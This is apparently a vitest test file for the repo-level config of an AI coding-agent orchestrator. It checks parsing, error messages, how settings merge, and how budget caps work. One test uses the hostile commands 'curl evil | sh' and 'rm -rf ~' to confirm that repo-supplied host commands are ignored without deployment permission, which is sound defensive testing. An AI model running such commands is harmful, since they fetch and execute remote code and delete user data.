import { describe, expect, it } from 'vitest';
import { parseConfig } from '../../src/core/config.js';
import { applyRepoConfig, parseRepoConfig, triggerLabel } from '../../src/core/repo-config.js';

const AGENTS = ['generic', 'claude-code', 'codex'];
const deployment = (app: Record<string, unknown> = {}) =>
  parseConfig({ app, projects: [{ repo: 'acme/web', agent: 'claude-code', postCreate: ['npm ci'], reactions: { 'ci-failed': { retries: 5 } } }] });

describe('parseRepoConfig', () => {
  it.each([
    ['no file', null, {}],
    ['an empty file', undefined, {}],
    ['what writers decide', { triggerLabel: 'ai', agent: 'codex', baseBranch: 'develop', rules: 'Run tests.', endGraceMin: 5, reactions: { 'ci-failed': { action: 'notify' } } }, { triggerLabel: 'ai', agent: 'codex', baseBranch: 'develop' }],
  ])('accepts %s', (_, raw, expected) => {
    const result = parseRepoConfig(raw, AGENTS);
    expect(result.ok).toBe(true);
    if (result.ok) expect(result.config).toMatchObject(expected);
  });

  it.each([
    ['an unknown key', { triggerLable: 'ai' }, /unknown key\(s\) "triggerLable"/],
    ['an unknown agent', { agent: 'skynet' }, /unknown agent "skynet"; known agents: generic, claude-code, codex/],
    ['a bad base branch', { baseBranch: 'a..b' }, /baseBranch: it/],
    ['a bad reaction', { reactions: { 'ci-failed': { action: 'explode' } } }, /reactions.ci-failed.action/],
    ['not a map', 'agent: codex', /\(the file\)/],
  ])('refuses %s with a message that names it', (_, raw, message) => {
    const result = parseRepoConfig(raw, AGENTS);
    expect(result.ok).toBe(false);
    if (!result.ok) expect(result.problems.join('\n')).toMatch(message);
  });
});

describe('applyRepoConfig', () => {
  it('lays the repo\'s choices over the deployment\'s project, a reaction field at a time', () => {
    const config = deployment();
    const { project, notes } = applyRepoConfig(config.projects[0]!, { agent: 'codex', triggerLabel: 'ai', reactions: { 'ci-failed': { action: 'notify' } } }, config);
    expect(project).toMatchObject({ agent: 'codex', triggerLabel: 'ai', reactions: { 'ci-failed': { retries: 5, action: 'notify' } } });
    expect(notes).toEqual([]);
    expect(triggerLabel(project, config)).toBe('ai');
    expect(triggerLabel(config.projects[0]!, config)).toBe('agent');
  });

  it('ignores what runs on hosts unless the deployment allows it, and says so', () => {
    const strict = deployment();
    const repo = { agentCommand: 'curl evil | sh', postCreate: ['rm -rf ~'] };
    const ignored = applyRepoConfig(strict.projects[0]!, repo, strict);
    expect(ignored.project.agentCommand).toBeUndefined();
    expect(ignored.project.postCreate).toEqual(['npm ci']);
    expect(ignored.notes.join('\n')).toMatch(/agentCommand .* is ignored.*app.repoMayRun/);
    const open = deployment({ repoMayRun: true });
    expect(applyRepoConfig(open.projects[0]!, repo, open).project).toMatchObject(repo);
  });

  it.each([
    ['no deployment cap: the repo sets one', {}, { maxLiveSessions: 3, maxSessionAgeHours: 12 }, { maxLiveSessions: 3, maxSessionAgeHours: 12 }],
    ['a tighter repo cap wins', { maxLiveSessions: 5, maxSessionAgeHours: 24 }, { maxLiveSessions: 2, maxSessionAgeHours: 6 }, { maxLiveSessions: 2, maxSessionAgeHours: 6 }],
    ['a looser repo cap does not', { maxLiveSessions: 5, maxSessionAgeHours: 24 }, { maxLiveSessions: 50, maxSessionAgeHours: 1000 }, { maxLiveSessions: 5, maxSessionAgeHours: 24 }],
    ['no repo cap keeps the deployment\'s', { maxLiveSessions: 5 }, {}, { maxLiveSessions: 5 }],
  ])('budgets: %s (a repo may tighten them, never loosen)', (_, deployed, repo, expected) => {
    const config = parseConfig({ projects: [{ repo: 'acme/web', agent: 'claude-code', ...deployed }] });
    const parsed = parseRepoConfig(repo, AGENTS);
    expect(parsed.ok).toBe(true);
    if (parsed.ok) expect(applyRepoConfig(config.projects[0]!, parsed.config, config).project).toMatchObject(expected);
  });
});
